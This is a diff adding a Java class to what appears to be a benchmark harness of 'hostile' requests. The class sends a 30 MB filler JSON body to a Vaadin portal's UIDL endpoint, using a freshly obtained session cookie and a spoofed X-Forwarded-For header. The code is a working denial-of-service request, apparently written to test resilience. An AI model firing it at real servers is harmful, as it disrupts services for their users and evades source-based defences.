@@ -1,0 +1,36 @@
+package fr.montpellier.multipass.bench.attack.hostile;
+
+import fr.montpellier.multipass.bench.Browser;
+import java.net.URI;
+import java.nio.charset.StandardCharsets;
+import java.util.Map;
+
+/** Thirty megabytes of JSON to Vaadin's own address, from a session of nobody. */
+public record UidlBody(URI portal) implements Hostile {
+
+    private static final long SIZE = 30_000_000;
+
+    @Override
+    public String name() {
+        return "30 MB to the address of UIDL";
+    }
+
+    @Override
+    public int strike(String source) {
+        try {
+            var page = new Browser(source).get(URI.create(portal + "/?v-r=init&location=&query="));
+            var cookie = page.headers().firstValue("Set-Cookie").orElse("none=").replaceAll(";.*", "");
+            return new RawRequest(
+                            "POST",
+                            URI.create(portal + "/?v-r=uidl&v-uiId=0"),
+                            Map.of(
+                                    "Cookie", cookie,
+                                    "Content-Type", "application/json; charset=UTF-8",
+                                    "X-Forwarded-For", source),
+                            SIZE)
+                    .sendFiller("{\"rpc\":[".getBytes(StandardCharsets.US_ASCII), '1');
+        } catch (java.io.UncheckedIOException e) {
+            return 0;
+        }
+    }
+}
